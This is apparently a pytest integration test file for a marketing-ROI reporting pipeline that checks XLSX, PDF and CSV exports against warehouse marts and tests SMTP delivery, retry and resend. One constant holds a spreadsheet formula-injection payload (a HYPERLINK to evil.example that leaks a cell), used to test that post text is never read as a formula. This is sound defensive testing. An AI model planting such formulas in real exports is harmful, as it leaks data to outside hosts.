"""Report exports from a real published warehouse (the `roi_env` sandbox world, run date
2026-11-20): the XLSX holds the marts' figures, the PDF renders, the CSV extracts are the marts'
rows, and delivery through a real SMTP server on loopback is once per period, retried when the
send fails, and resendable."""

from __future__ import annotations

import csv
import logging
import shutil
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import duckdb
import openpyxl
import pypdfium2
import pytest

from core.paths import DataPaths
from reports import tasks
from reports.build import build_report
from reports.charts import GROUP_COLOURS, colour
from reports.deliveries import SENT, SKIPPED_NO_DATA, deliveries, done
from reports.delivery import ReportDeliveryError
from reports.incremental import BUDGET_HEADING, CHANNELS_HEADING, CURVES_HEADING
from reports.periods import ReportPeriod
from sources.config import load_config
from warehouse.duckdb_file import DuckDBFile

pytestmark = pytest.mark.integration

OCTOBER = ReportPeriod(date(2026, 10, 1), date(2026, 10, 31), "month", 1)
SEPTEMBER = ReportPeriod(date(2026, 9, 1), date(2026, 9, 30), "month", 1)
WEEK = ReportPeriod(date(2026, 11, 9), date(2026, 11, 15), "week", 1)
# Monday 16 Nov 2026, 07:05 in Chicago: the weekly run (9-15 Nov) and the monthly one (October) are due.
MONDAY_RUN = datetime(2026, 11, 16, 13, 5, tzinfo=UTC)
TOP_POST_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"Book a flu shot")'


@pytest.fixture(scope="module")
def config():
    return load_config()


def definition(config, name):
    return next(report for report in config.reports if report.name == name)


@pytest.fixture(scope="module")
def warehouse(roi_env):
    paths, ctx = roi_env
    assert ctx.partition_date == date(2026, 11, 20)
    return paths.published_warehouse


def query(warehouse: Path, sql: str, params=None) -> list[tuple]:
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        return connection.execute(sql, params or []).fetchall()


def build_from_file(config, name: str, period: ReportPeriod, warehouse: Path, out: Path):
    return build_report(definition(config, name), period, DuckDBFile(warehouse), out, config)


@pytest.fixture(scope="module")
def monthly(warehouse, config, tmp_path_factory):
    return build_from_file(config, "monthly_marketing_roi", OCTOBER, warehouse, tmp_path_factory.mktemp("reports"))


@pytest.fixture(scope="module")
def weekly(warehouse, config, tmp_path_factory):
    return build_from_file(config, "weekly_social_performance", WEEK, warehouse, tmp_path_factory.mktemp("reports"))


def built_file(built, suffix: str) -> Path:
    return next(path for path in built.files if path.name.endswith(suffix))


def channel_keys(warehouse: Path) -> dict[str, str]:
    return dict(query(warehouse, "select channel_name, channel from channels"))


def channel_groups(warehouse: Path) -> dict[str, str]:
    return dict(query(warehouse, "select channel, channel_group from channels"))


def approx_or_none(expected):
    """A mart ratio as the workbook holds it: the number, or an empty cell where the mart has NULL."""
    return None if expected is None else pytest.approx(float(expected), rel=1e-9)


def sheet_rows(path: Path, sheet: str) -> list[tuple]:
    return list(openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True))


def by_header(rows: list[tuple], column: str) -> dict[str, object]:
    index = rows[0].index(column)
    return {row[0]: row[index] for row in rows[1:]}


# --- XLSX -------------------------------------------------------------------------------------


def test_xlsx_holds_the_marts_cpe_and_roi_per_channel_for_the_month(monthly, warehouse):
    rows = sheet_rows(built_file(monthly, ".xlsx"), "Channels")
    keys = channel_keys(warehouse)
    cpe = dict(
        query(
            warehouse,
            "select channel, sum(total_investment) / nullif(sum(engagements), 0) from mart_cost_per_engagement "
            "where period_type = 'month' and period_start = ? group by channel",
            [OCTOBER.start],
        )
    )
    roi = {
        channel: (value, zero)
        for channel, value, zero in query(
            warehouse,
            "select channel, (sum(conversion_value) - sum(total_investment)) / nullif(sum(total_investment), 0), "
            "sum(total_investment) = 0 from mart_roi where month_start = ? group by channel",
            [OCTOBER.start],
        )
    }
    xlsx_cpe, xlsx_roi = by_header(rows, "CPE"), by_header(rows, "ROI")
    channels = {keys[name] for name in xlsx_cpe if name != "Total"}
    assert channels == set(cpe) == set(roi)
    assert {"facebook", "meta_ads", "tv"} <= channels
    for name, value in xlsx_cpe.items():
        if name == "Total":
            continue
        channel = keys[name]
        assert value == approx_or_none(cpe[channel]), name
        expected_roi, zero_investment = roi[channel]
        if zero_investment:
            assert xlsx_roi[name] == "\u221e (no spend)"
        else:
            assert xlsx_roi[name] == pytest.approx(float(expected_roi), rel=1e-9), name


def test_xlsx_summary_totals_and_previous_period_match_the_marts(monthly, warehouse):
    rows = sheet_rows(built_file(monthly, ".xlsx"), "Summary")
    figures = {row[1]: (row[3], row[4], row[5]) for row in rows if row[1]}

    def month(period):
        return query(
            warehouse,
            "select sum(total_investment), sum(conversions), sum(conversion_value) from mart_roi where month_start = ?",
            [period.start],
        )[0]

    investment, conversions, value = (float(v) for v in month(OCTOBER))
    previous_investment, previous_conversions, _ = (float(v) for v in month(SEPTEMBER))
    (engagements,) = query(
        warehouse,
        "select sum(engagements) from mart_cost_per_engagement where period_type = 'month' and period_start = ?",
        [OCTOBER.start],
    )[0]
    assert figures["Investment"][0] == pytest.approx(investment, abs=0.005)
    assert figures["Investment"][1] == pytest.approx(previous_investment, abs=0.005)
    change = (investment - previous_investment) / previous_investment
    assert figures["Investment"][2] == f"{change:+.1%}".replace("-", "\u2212")
    assert figures["Conversions"][:2] == (conversions, previous_conversions)
    assert figures["Cost per engagement (CPE)"][0] == pytest.approx(investment / float(engagements), rel=1e-9)
    assert figures["ROI"][0] == pytest.approx((value - investment) / investment, rel=1e-9)
    assert "compared with September 2026" in " ".join(str(cell) for row in rows[:4] for cell in row if cell)


def test_xlsx_has_native_charts_in_channel_colours_formats_and_frozen_headers(monthly, warehouse):
    book = openpyxl.load_workbook(built_file(monthly, ".xlsx"))
    assert book.sheetnames[:6] == [
        "Summary",
        "Channels",
        "Social vs traditional",
        "Ambassadors",
        "Posts",
        "Definitions",
    ]
    assert {"data_channel_daily", "data_roi", "data_cost_per_engagement", "data_posts"} <= set(book.sheetnames)
    charts = book["Summary"]._charts
    assert [type(chart).__name__ for chart in charts] == ["BarChart", "BarChart"]
    keys, groups = channel_keys(warehouse), channel_groups(warehouse)
    names = [row[0] for row in book["Channels"].iter_rows(min_row=2, values_only=True) if row[0] != "Total"]
    fills = [point.graphicalProperties.solidFill.srgbClr for point in charts[0].series[0].dPt]
    # Each channel in its shade of its group's colour, as in the PDF.
    assert fills == [colour(keys[name], groups[keys[name]]).lstrip("#") for name in names]
    assert book["Social vs traditional"]._charts
    channels = book["Channels"]
    assert channels.freeze_panes == "B2" and book["data_channel_daily"].freeze_panes == "A2"
    header = [cell.value for cell in channels[1]]
    assert channels.cell(2, header.index("CPE") + 1).number_format == "$#,##0.00"
    assert channels.cell(2, header.index("ROI") + 1).number_format == "0.0%"
    meta_ads = 1 + names.index("Meta ads (Facebook and Instagram)") + 1
    assert channels.cell(meta_ads, header.index("ROAS") + 1).number_format == '0.0"\u00d7"'
    # A channel without a click metric has no clicks, not 0.
    clicks = {row[0]: row[header.index("Clicks")] for row in channels.iter_rows(min_row=2, values_only=True)}
    assert clicks["Television"] is None and clicks["Instagram"] is None and clicks["Facebook"] > 0
    assert channels.column_dimensions["A"].width >= 20


def test_weekly_filtered_report_matches_the_marts_week_rows_for_social_channels_only(weekly, warehouse):
    rows = sheet_rows(built_file(weekly, ".xlsx"), "Channels")
    keys = channel_keys(warehouse)
    expected = dict(
        query(
            warehouse,
            "select m.channel, sum(m.total_investment) / nullif(sum(m.engagements), 0) "
            "from mart_cost_per_engagement as m join channels as c on m.channel = c.channel "
            "where m.period_type = 'week' and m.period_start = ? "
            "and c.channel_group in ('organic_social', 'paid_social') group by m.channel",
            [WEEK.start],
        )
    )
    cpe = {keys[name]: value for name, value in by_header(rows, "CPE").items() if name != "Total"}
    assert set(cpe) == set(expected) and "tv" not in cpe
    for channel, value in cpe.items():
        assert value == approx_or_none(expected[channel]), channel
    assert "data_roi" not in openpyxl.load_workbook(built_file(weekly, ".xlsx")).sheetnames, (
        "no monthly mart in a weekly report"
    )


# The period's five best posts recomputed from the mart: posts a week old or more at the
# warehouse's last day, each platform's best first (percent rank of the rate within the platform),
# then by the rate against the platform's median rate of the period.
TOP_RANKED_POSTS = """
with ranked as (
    select platform, post_id, engagements, engagement_rate
    from mart_social_posts
    where created_date between ? and ? and engagement_rate is not null
      and created_date <= (select max(date_day) from fct_channel_daily) - interval 7 day
),
medians as (select platform, median(engagement_rate) as typical from ranked group by platform),
placed as (
    select *, percent_rank() over (partition by platform order by engagement_rate) as standing from ranked
)
select post_id, engagements, engagement_rate / typical
from placed join medians using (platform)
order by standing desc, engagement_rate / typical desc, platform, post_id
limit 5
"""


def test_top_posts_are_the_posts_most_above_their_platforms_rate_leaving_out_the_youngest(monthly, warehouse):
    rows = sheet_rows(built_file(monthly, ".xlsx"), "Posts")
    top = [row for row in rows[2:7]]
    expected = query(warehouse, TOP_RANKED_POSTS, [OCTOBER.start, OCTOBER.end])
    assert [row[4] for row in top] == [engagements for _, engagements, _ in expected]
    assert [row[7] for row in top] == pytest.approx([relative for _, _, relative in expected])
    assert [row[0] for row in top] == [1, 2, 3, 4, 5]
    assert all(relative > 1 for _, _, relative in expected)


# --- CSV and PDF -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("extract", "sql"),
    [
        ("channel_daily", "select count(*) from fct_channel_daily where date_day between $start and $end"),
        (
            "cost_per_engagement",
            "select count(*) from mart_cost_per_engagement where period_type = 'month' and period_start = $start",
        ),
        ("roi", "select count(*) from mart_roi where month_start = $start"),
        ("social_vs_traditional", "select count(*) from mart_social_vs_traditional where month_start = $start"),
        ("posts", "select count(*) from mart_social_posts where created_date between $start and $end"),
        ("source_freshness", "select count(*) from source_freshness"),
    ],
)
def test_csv_extract_has_the_marts_rows_for_the_period(monthly, warehouse, extract, sql):
    path = built_file(monthly, f"_{extract}.csv")
    with open(path, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        params = {name: value for name, value in (("start", OCTOBER.start), ("end", OCTOBER.end)) if f"${name}" in sql}
        (expected,) = connection.execute(sql, params).fetchone()
        columns = [d[0] for d in connection.execute(f"select * from {extract_source(extract)} limit 0").description]
    assert expected > 0
    assert len(rows) - 1 == expected
    assert rows[0] == columns


def extract_source(extract: str) -> str:
    return {
        "channel_daily": "fct_channel_daily",
        "posts": "mart_social_posts",
        "source_freshness": "source_freshness",
    }.get(extract, f"mart_{extract}")


def test_pdf_pages_render_to_images_that_are_not_blank(monthly, warehouse, tmp_path):
    document = pypdfium2.PdfDocument(str(built_file(monthly, ".pdf")))
    assert 2 <= len(document) <= 4
    for index, page in enumerate(document):
        image = page.render(scale=1.5).to_pil().convert("RGB")
        image.save(tmp_path / f"page{index + 1}.png")
        grey = image.convert("L")
        inked = sum(1 for value in grey.getdata() if value < 200) / (grey.width * grey.height)
        assert inked > 0.01, f"page {index + 1} is blank"
        text = page.get_textpage().get_text_range()
        assert "CPE = investment / engagements" in text.replace("\r", " ").replace("\n", " "), "definitions footer"
    first = document[0].get_textpage().get_text_range()
    for expected in ("Monthly marketing ROI", "October 2026", "Cost per engagement", "ROI", "Data freshness"):
        assert expected in first

    def pixels(page: int) -> set:
        return set(document[page].render(scale=1.5).to_pil().convert("RGB").getdata())

    def rgb(hex_colour: str) -> tuple[int, ...]:
        return tuple(int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))

    # Page 1 draws each channel group in its colour, page 2 each channel in its shade of it.
    assert {rgb(tint) for tint in GROUP_COLOURS.values()} <= pixels(0)
    groups = channel_groups(warehouse)
    for channel in ("instagram", "radio", "meta_ads"):
        assert rgb(colour(channel, groups[channel])) in pixels(1), channel
    assert len({colour(channel, group) for channel, group in groups.items()}) == len(groups), "a shade each"
    # The posts come last (after the ambassadors page the roi_env night's advocacy inbox brings).
    assert "Top posts" in document[len(document) - 1].get_textpage().get_text_range()


def page_text(path: Path, page: int) -> str:
    """A page's text layer with its line breaks read as spaces."""
    return " ".join(pypdfium2.PdfDocument(str(path))[page].get_textpage().get_text_range().split())


def test_pdf_page_one_tells_the_i_to_zero_story_from_the_marts(monthly, warehouse):
    first = page_text(built_file(monthly, ".pdf"), 0)
    tiers = {
        group: [float(value or 0) for value in values]
        for group, *values in query(
            warehouse,
            "select channel_group, sum(total_investment), sum(impressions), sum(active_engagements), "
            "sum(conversions), sum(conversion_value), max(peak_measured_reach) "
            "from mart_social_vs_traditional where month_start = ? group by channel_group",
            [OCTOBER.start],
        )
    }
    assert set(tiers) == {"organic_social", "paid_social", "traditional", "employee_advocacy"}

    # The headline: social (organic and paid) next to traditional, per thousand impressions and per conversion.
    social = [sum(figures) for figures in zip(tiers["organic_social"], tiers["paid_social"], strict=True)]
    investment, impressions, _, conversions, _, _ = social
    t_investment, t_impressions, _, t_conversions, _, _ = tiers["traditional"]
    cpm, t_cpm = investment / impressions * 1000, t_investment / t_impressions * 1000
    per_conversion, t_per_conversion = investment / conversions, t_investment / t_conversions

    def against(ours: float, theirs: float) -> str:
        share = ours / theirs
        return f"{share:.0%} of" if share < 1 else f"{share:.1f}\u00d7"

    assert (
        f"Social's {impressions:,.0f} impressions cost ${cpm:,.2f} per thousand, {against(cpm, t_cpm)} "
        f"traditional's ${t_cpm:,.2f}; its {conversions:,.0f} conversions cost ${per_conversion:,.2f} each, "
        f"{against(per_conversion, t_per_conversion)} traditional's ${t_per_conversion:,.2f}."
    ) in first

    # The tiers, one row per channel group: investment, cost per 1,000 reached (the largest single
    # reach), CPM, active engagements and their cost, conversions, cost per outcome, ROI.
    for group, name in (
        ("organic_social", "Organic social"),
        ("paid_social", "Paid social"),
        ("traditional", "Traditional"),
    ):
        investment, impressions, active, conversions, value, reach = tiers[group]
        row = (
            f"{name} ${investment:,.0f} ${investment / reach * 1000:,.2f} ${investment / impressions * 1000:,.2f} "
            f"{active:,.0f} ${investment / active:,.2f} {conversions:,.0f} ${investment / conversions:,.2f} "
            f"{(value - investment) / investment:.1%}"
        )
        assert row in first, row

    # Where the I goes: each group's parts as mart_roi has them.
    for name, media, staff, tools, production in query(
        warehouse,
        "select case channel_group when 'organic_social' then 'Organic social' when 'paid_social' then 'Paid social' "
        "when 'employee_advocacy' then 'Employee advocacy' else 'Traditional' end, "
        "sum(media_spend), sum(staff_cost), sum(tool_cost), sum(production_cost) "
        "from mart_roi where month_start = ? group by channel_group",
        [OCTOBER.start],
    ):
        parts = f"media ${media:,.0f}, staff time ${staff:,.0f}, tools ${tools:,.0f}, production ${production:,.0f}"
        assert f"{name}: {parts}" in first

    # I = 0: the month's largest return on no investment, from mart_roi's zero_investment rows.
    channel, campaign, conversions, value = query(
        warehouse,
        "select c.channel_name, r.campaign_name, r.conversions, r.conversion_value from mart_roi as r "
        "join channels as c using (channel) where r.month_start = ? and r.zero_investment and r.conversions > 0 "
        "order by r.conversion_value desc limit 1",
        [OCTOBER.start],
    )[0]
    assert f"{channel} {campaign} $0 {conversions:,} ${value:,.0f} \u221e (no spend)" in first

    # Page 2: ROAS as a multiple, clicks of a channel without a click metric as a dash.
    second = page_text(built_file(monthly, ".pdf"), 1)
    media_spend, value = query(
        warehouse, "select sum(media_spend), sum(conversion_value) from mart_roi where month_start = ?", [OCTOBER.start]
    )[0]
    assert f"ROAS {value / media_spend:.1f}\u00d7" in second
    assert "Television $36,628" in second and second.split("Television ")[1].split()[5:7] == ["\u2014", "\u2014"]


def test_a_week_leaves_out_the_sections_it_has_no_data_for(weekly):
    first = page_text(built_file(weekly, ".pdf"), 0)
    # Social only (the filter): no comparison with traditional, no monthly reach or wins.
    assert first.count("Social's ") == 1 and "traditional's" not in first
    assert "By channel group: what each dollar buys" in first and "Social next to traditional" not in first
    assert "reached*" not in first and "approaches zero" not in first


def test_post_text_is_never_read_as_a_formula(warehouse, config, tmp_path):
    copy = tmp_path / "marketing.duckdb"
    shutil.copy(warehouse, copy)
    with duckdb.connect(str(copy)) as connection:
        (post_id, _, _) = connection.execute(TOP_RANKED_POSTS, [OCTOBER.start, OCTOBER.end]).fetchone()
        connection.execute("update mart_social_posts set post_text = ? where post_id = ?", [TOP_POST_TEXT, post_id])
    built = build_from_file(config, "monthly_marketing_roi", OCTOBER, copy, tmp_path / "out")

    book = openpyxl.load_workbook(built_file(built, ".xlsx"))
    cells = [cell for sheet in ("Posts", "data_posts") for row in book[sheet].iter_rows() for cell in row]
    hits = [cell for cell in cells if cell.value == TOP_POST_TEXT]
    assert len(hits) == 2
    for cell in hits:
        assert cell.data_type == "s" and cell.quotePrefix
    assert not [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    with open(built_file(built, "_posts.csv"), newline="", encoding="utf-8-sig") as handle:
        texts = [row[7] for row in csv.reader(handle)]
    assert "'" + TOP_POST_TEXT in texts


# --- delivery ----------------------------------------------------------------------------------


@pytest.fixture
def smtp(monkeypatch, mail_server):
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", mail_server.connection("reports@cedarvalleyhealth.org"))
    return mail_server


@pytest.fixture
def data(warehouse, tmp_path) -> DataPaths:
    """A data folder of its own (deliveries, copies, files) holding a copy of the published warehouse."""
    paths = DataPaths(tmp_path / "data")
    paths.warehouse_dir.mkdir(parents=True)
    shutil.copy(warehouse, paths.published_warehouse)
    return paths


def run_reports(data: DataPaths, as_of=MONDAY_RUN, params=None) -> list[dict]:
    jobs = tasks.plan(as_of, params, "scheduled__test", data)
    for job in jobs:
        tasks.deliver(tasks.build(job, data), "scheduled__test", data)
    return jobs


def test_due_reports_are_emailed_copied_and_recorded_once(smtp, data, config, caplog):
    caplog.set_level(logging.DEBUG)
    jobs = run_reports(data)
    assert sorted((job["report"], job["period"]["start"]) for job in jobs) == [
        ("monthly_marketing_roi", "2026-10-01"),
        ("weekly_social_performance", "2026-11-09"),
    ]
    received = {message["Subject"]: (recipients, message) for recipients, message in smtp.messages}
    assert set(received) == {
        "Monthly marketing ROI, social and traditional: October 2026",
        "Weekly social media performance: 9\u201315 Nov 2026",
    }
    recipients, message = received["Monthly marketing ROI, social and traditional: October 2026"]
    monthly = definition(config, "monthly_marketing_roi")
    assert sorted(recipients) == sorted(monthly.recipients)
    attachments = {part.get_filename() for part in message.iter_attachments()}
    folder = data.root / "shared" / "marketing-reports" / "monthly_marketing_roi" / OCTOBER.key
    assert attachments == {path.name for path in folder.iterdir()}
    assert {name.rsplit(".", 1)[1] for name in attachments} == {"pdf", "xlsx", "csv"}
    body = message.get_body(("html",)).get_content()
    assert "October 2026" in body and "compared with September 2026" in body and "Cost per engagement" in body

    recorded = deliveries(data.landing)
    assert sorted((d.report_name, d.period_start, d.status, d.trigger) for d in recorded) == [
        ("monthly_marketing_roi", OCTOBER.start, SENT, "scheduled"),
        ("weekly_social_performance", WEEK.start, SENT, "scheduled"),
    ]
    assert {d.message_id for d in recorded} == {message["Message-ID"] for _, message in smtp.messages}

    # The run the Asset triggers after the next publish, and tomorrow's: nothing is sent twice.
    assert run_reports(data) == []
    assert run_reports(data, datetime(2026, 11, 20, 13, 0, tzinfo=UTC)) == []
    assert len(smtp.messages) == 2 and len(deliveries(data.landing)) == 2

    ours = "\n".join(record.getMessage() for record in caplog.records if not record.name.startswith("mail"))
    assert "2 recipient(s)" in ours
    for address in {*monthly.recipients, *definition(config, "weekly_social_performance").recipients}:
        assert address not in ours


def test_a_failed_send_records_nothing_and_the_retry_delivers_once(smtp, data, config, caplog):
    params = {"report": "monthly_marketing_roi"}
    (job,) = tasks.plan(MONDAY_RUN, params, "scheduled__test", data)
    built = tasks.build(job, data)
    smtp.refuse_next = 1
    with pytest.raises(ReportDeliveryError) as caught:
        tasks.deliver(built, "scheduled__test", data)
    assert "SMTP 451" in str(caught.value) and "2 recipient(s)" in str(caught.value)
    assert "@" not in str(caught.value)
    assert caught.value.__cause__ is None and caught.value.__suppress_context__
    assert smtp.messages == [] and deliveries(data.landing) == []
    assert done(data.landing, "monthly_marketing_roi", OCTOBER) is None

    # The task's retry: the same built files go out, and the period is recorded once.
    tasks.deliver(built, "scheduled__test", data)
    assert len(smtp.messages) == 1
    assert [(d.period_start, d.status) for d in deliveries(data.landing)] == [(OCTOBER.start, SENT)]
    assert tasks.plan(MONDAY_RUN, params, "scheduled__test", data) == []


def test_resend_on_demand_sends_the_period_again_and_keeps_history(smtp, data):
    run_reports(data)
    params = {"resend": True, "report": "weekly_social_performance", "period_start": "2026-11-11"}
    (job,) = run_reports(data, datetime(2026, 11, 20, 15, 0, tzinfo=UTC), params)
    assert (job["period"]["start"], job["trigger"]) == ("2026-11-09", "resend")
    assert smtp.messages[-1][1]["Subject"] == "Weekly social media performance: 9\u201315 Nov 2026 (resent)"
    history = [(d.period_start, d.trigger) for d in deliveries(data.landing, "weekly_social_performance")]
    assert history == [(WEEK.start, "scheduled"), (WEEK.start, "resend")]
    with pytest.raises(Exception, match="no report named 'weekly'"):
        tasks.plan(MONDAY_RUN, {"report": "weekly"}, "manual__test", data)
    with pytest.raises(Exception, match="period_start '11/09/2026' is not a date"):
        tasks.plan(MONDAY_RUN, {"report": "weekly_social_performance", "period_start": "11/09/2026"}, "m", data)


def test_a_period_the_warehouse_does_not_cover_yet_waits(smtp, data):
    # Monday 23 Nov: the week of 16-22 Nov is due, but the warehouse ends on the 20th.
    jobs = run_reports(data, datetime(2026, 11, 23, 13, 5, tzinfo=UTC), {"report": "weekly_social_performance"})
    assert jobs == [] and smtp.messages == [] and deliveries(data.landing) == []


def test_a_period_without_data_is_skipped_and_recorded(smtp, data):
    # 1 June 2026: May is covered by the warehouse's dates but has no activity (history starts later).
    assert run_reports(data, datetime(2026, 6, 1, 13, 0, tzinfo=UTC)) == []
    assert smtp.messages == []
    assert {(d.report_name, d.status) for d in deliveries(data.landing)} == {
        ("weekly_social_performance", SKIPPED_NO_DATA),
        ("monthly_marketing_roi", SKIPPED_NO_DATA),
    }
    assert run_reports(data, datetime(2026, 6, 1, 13, 0, tzinfo=UTC)) == []
    assert len(deliveries(data.landing)) == 2


# --- What each channel adds: the marketing-mix marts -------------------------------------------
#
# The four marts the weekly marketing-mix fit publishes, filled in a copy of the dbt-built warehouse
# with the report's figures (the warehouse the nightly builds has no fit of its own). Two fits: the
# report reads the latest only.

# The marts as dbt builds them (empty: no fit was landed in the roi_env night), so the rows below
# follow their columns in order.
MIX_MARTS = ("mart_incremental_roi", "mart_response_curves", "mart_budget_scenarios", "mart_mmm_diagnostics")
LATEST_FIT, EARLIER_FIT = "fit-2026-11-15", "fit-2026-11-08"
LAST_52_WEEKS = (date(2025, 11, 17), date(2026, 11, 15))
# channel, group, driver, investment, attributed conversions and value, attributed ROI, incremental
# conversions (low, high), incremental value, incremental ROI (low, high), marginal ROI, uncertain.
MIX_CHANNELS = [
    ("meta_ads", "paid_social", "spend", 156000, 2100, 444600, 1.85, 1480, 1020, 1960, 124800, -0.2, -0.45, 0.1, 0.35, False),
    ("tv", "traditional", "impressions", 260000, 240, 50880, -0.8, 1150, 800, 1500, 243800, -0.06, -0.35, 0.22, 0.41, False),
    ("facebook", "organic_social", "posts", 41600, 310, 65720, 0.58, 520, 90, 980, 110240, 1.65, -0.55, 3.9, 1.2, True),
    ("radio", "traditional", "impressions", 62400, 95, 20140, -0.68, 310, 0, 720, 65720, 0.05, -1.0, 1.45, 0.9, True),
    # No investment in the period: its ROIs are not measured.
    ("ooh", "traditional", "impressions", 0, 0, 0, None, 12, 0, 40, 2544, None, None, None, None, True),
]  # fmt: skip
# channel: current weekly spend, expected weekly conversions there; budget: recommended, change share, change.
MIX_CURVES = {
    "meta_ads": (3000, 28.0),
    "tv": (5000, 22.0),
    "facebook": (800, 10.0),
    "radio": (1200, 6.0),
    "ooh": (0, 0.0),
}
MIX_BUDGET = {
    "meta_ads": (True, 3240, 0.08, 2.1),
    "facebook": (True, 560, -0.3, -1.4),
    "tv": (False, 5000, 0.0, 0.0),
    "radio": (False, 1200, 0.0, 0.0),
    "ooh": (False, 0, None, 0.0),
}


def mix_rows(fit_id: str, trusted: bool, roi_shift: float = 0.0) -> dict[str, list[tuple]]:
    """The four marts' rows of one fit; `roi_shift` tells an earlier fit's ROIs from the latest's."""
    incremental, curves, budget = [], [], []
    for channel, group, driver, *figures in MIX_CHANNELS:
        investment, attributed, attributed_value, attributed_roi, conversions, low, high, value = figures[:8]
        roi, roi_low, roi_high, marginal, uncertain = figures[8:]
        roi, roi_low, roi_high = (None if r is None else r + roi_shift for r in (roi, roi_low, roi_high))
        # The latest 52 weeks, and a quarter and the whole range with other figures the page must not show.
        for period, (start, end), scale in (
            ("last 52 weeks", LAST_52_WEEKS, 1),
            ("2026-Q3", (date(2026, 6, 29), date(2026, 9, 27)), 0.25),
            ("fitted range", (date(2024, 12, 2), date(2026, 11, 15)), 2),
        ):
            incremental.append(
                (fit_id, period, start, end, (end - start).days // 7 + 1, channel, group, driver)
                + (investment * scale, int(attributed * scale), attributed_value * scale)
                + (None if attributed_roi is None else attributed_roi + (scale - 1) / 10, conversions * scale)
                + (low * scale, high * scale, value * scale, roi, roi_low, roi_high, marginal, 0.62, 0.9)
                + (uncertain, trusted)
            )
        current, at_current = MIX_CURVES[channel]
        # A saturating curve through (current spend, its conversions), from no spend to twice the current
        # (to $1,000 for a channel spending nothing).
        half = current or 500
        for step in range(9):
            spend = step / 4 * half
            expected = 2 * at_current * spend / (spend + half)
            low, high, now = 0.6 * expected, 1.4 * expected, spend == current
            curves.append((fit_id, channel, group, driver, spend, expected, low, high, now))
        movable, recommended, share, change = MIX_BUDGET[channel]
        budget.append((fit_id, channel, group, movable, current, recommended, share, change, 0.3))
    return {"mart_incremental_roi": incremental, "mart_response_curves": curves, "mart_budget_scenarios": budget}


def diagnostics_row(fit_id: str, fitted_for: date, weeks: int, is_latest: bool) -> tuple:
    first_week = date(2026, 11, 9) - timedelta(weeks=weeks - 1)
    return (
        fit_id,
        f"scheduled__{fitted_for}",
        fitted_for,
        "mix-nnls-adstock-hill-1",
        "appointment_request,class_registration",
        first_week,
        date(2026, 11, 9),
        weeks,
        78,
        weeks >= 78,
        0.87 if is_latest else 0.5,
        0.082,
        13,
        0.9,
        200,
        len(MIX_CHANNELS),
        212.0,
        is_latest,
    )


def with_mix_marts(warehouse: Path, copy: Path, weeks: int | None = 102) -> Path:
    """A copy of the warehouse with the four marts: the earlier fit and the latest (of `weeks`
    weeks of history), or the marts without rows when `weeks` is None."""
    shutil.copy(warehouse, copy)
    with duckdb.connect(str(copy)) as connection:
        for table in MIX_MARTS:
            assert connection.execute(f"select count(*) from {table}").fetchone() == (0,), table
        if weeks is None:
            return copy
        fits = [
            (EARLIER_FIT, date(2026, 11, 8), 101, False, 1.0),
            (LATEST_FIT, date(2026, 11, 15), weeks, True, 0.0),
        ]
        for fit_id, fitted_for, fit_weeks, is_latest, roi_shift in fits:
            for table, rows in mix_rows(fit_id, fit_weeks >= 78, roi_shift).items():
                connection.executemany(f"insert into {table} values ({', '.join('?' * len(rows[0]))})", rows)
            row = diagnostics_row(fit_id, fitted_for, fit_weeks, is_latest)
            connection.execute(f"insert into mart_mmm_diagnostics values ({', '.join('?' * len(row))})", row)
    return copy


def pdf_pages(path: Path) -> list[str]:
    """The text layer of each page, lines joined by spaces."""
    document = pypdfium2.PdfDocument(str(path))
    return [" ".join(page.get_textpage().get_text_range().split()) for page in document]


@pytest.fixture(scope="module")
def mix_monthly(warehouse, config, tmp_path_factory):
    folder = tmp_path_factory.mktemp("mix")
    copy = with_mix_marts(warehouse, folder / "marketing.duckdb")
    return build_from_file(config, "monthly_marketing_roi", OCTOBER, copy, folder / "reports")


def test_pdf_page_what_each_channel_adds_sets_attributed_next_to_incremental_roi(mix_monthly, tmp_path):
    pages = pdf_pages(built_file(mix_monthly, ".pdf"))
    (index,) = [i for i, text in enumerate(pages) if "What each channel adds" in text]
    assert index == 2 and "Top posts" in pages[-1], "after social next to traditional, before the posts"
    text = pages[index]
    # Meta ads: attributed ROI +185% next to the model's -20% with its 90% interval.
    assert "Meta ads $156,000 2,100 1,480 (1,020 to 1,960) +185% \u221220% (\u221245% to +10%) +35%" in text
    assert "Facebook * $41,600 310 520 (90 to 980) +58% +165% (\u221255% to +390%) +120%" in text
    # No investment: no ROI, shown as not measured, never 0.
    assert "Out-of-home * $0 0 12 (0 to 40) \u2014 \u2014 \u2014" in text
    assert "The interval is wider than the estimate" in text
    assert "17 Nov 2025 to 15 Nov 2026; 62% of their conversions would have happened without any channel" in text
    assert "Fit of 15 Nov 2026: R\u00b2 0.87, held-out error 8% on the last 13 weeks, 102 weeks of history" in text
    assert "mix-nnls-adstock-hill-1" in text and "too short to trust" not in text
    assert "Expected change: +0.7 conversions a week" in " ".join(pages[index:])
    # Only the latest fit and its last 52 weeks: not the earlier fit's +80%, nor the quarter's figures.
    assert "+80%" not in text and "39,000" not in text
    page = pypdfium2.PdfDocument(str(built_file(mix_monthly, ".pdf")))[index]
    pixels = set(page.render(scale=1.5).to_pil().convert("RGB").getdata())
    groups = {channel: group for channel, group, *_ in MIX_CHANNELS}
    for channel in ("meta_ads", "tv", "facebook", "radio"):
        tint = colour(channel, groups[channel])
        assert tuple(int(tint[i : i + 2], 16) for i in (1, 3, 5)) in pixels, channel


def test_pdf_says_a_fit_on_too_short_a_history_is_not_to_be_trusted(warehouse, config, tmp_path):
    copy = with_mix_marts(warehouse, tmp_path / "marketing.duckdb", weeks=60)
    built = build_from_file(config, "monthly_marketing_roi", OCTOBER, copy, tmp_path / "out")
    (text,) = [text for text in pdf_pages(built_file(built, ".pdf")) if "What each channel adds" in text]
    assert "Fewer than 78 weeks of history: the fit has 60, too short to trust" in text
    assert "60 weeks of history (22 Sep 2025 to 09 Nov 2026)" in text


def sheet_tables(sheet) -> dict[str, list[dict]]:
    """The tables of a sheet laid out as a heading, a header row and rows down to a blank row: heading
    -> one {header: cell} per row."""
